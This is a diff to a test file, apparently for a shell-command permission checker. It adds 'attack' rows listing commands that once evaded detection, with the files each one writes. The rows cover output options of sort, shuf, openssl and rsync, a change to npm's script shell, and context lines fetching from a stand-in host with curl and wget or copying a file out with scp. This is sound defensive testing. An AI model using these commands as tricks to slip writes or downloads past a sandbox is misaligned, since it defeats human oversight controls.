@@ -552,6 +552,15 @@ const ATTACKS: Row[] = [
   ["wget -qO- --config=src/auth/rc http://h/x", [], [], true],
   ["curl -fsSL http://h/x", [], [], false],
   ["wget -qO- http://h/x", [], [], false],
+  // Output options that were missed (round 6).
+  ["sort --o docs/p src/auth/a.ts", ["docs/p"], [], false],
+  ["shuf --o=docs/p src/auth/a.ts", ["docs/p"], [], false],
+  ["openssl req -new -nodes -keyout docs/k -out /dev/null -subj /CN=x", ["docs/k"], [], false],
+  ["openssl s_client -connect h:443 -sess_out docs/k", ["docs/k"], [], false],
+  ["openssl genrsa -out /dev/stdout 2048", [], [], false],
+  ["npm config set script-shell /bin/sh", [], [], true],
+  ["npm set x y", [], [], true],
+  ["npm config get registry", [], [], false],
 ];
 
 test(`attacks: ${ATTACKS.length} commands that once slipped through are classified as bash runs them`, () => {
@@ -630,6 +639,12 @@ const EFFECT_ATTACKS: EffectRow[] = [
   ["cd src/auth && wget -o ../../docs/log http://h/x", ["docs/log", "src/auth"], false],
   ["wget -qO- -a docs/log http://h/x", ["docs/log"], false],
   ["wget -qO- --output-file=docs/log http://h/x", ["docs/log"], false],
+  ["rsync --log-file=docs/log src/auth/a.ts /tmp/x", ["docs/log", "/tmp/x"], false],
+  ["rsync --only-write-batch=docs/b src/auth/a.ts /tmp/x", ["docs/b", "docs/b.sh", "/tmp/x"], false],
+  ["rsync --backup-dir=../docs -b src/auth/a.ts src/auth/b.ts", ["src/auth/b.ts"], true],
+  ["npm pack", ["."], false],
+  ["cd src/auth && npm pack --pack-destination ../../docs", ["docs"], false],
+  ["npm pack --dry-run", [], false],
   ["scp -P 2222 -i key src/auth/a.ts h:x", [], false],
 ];
 
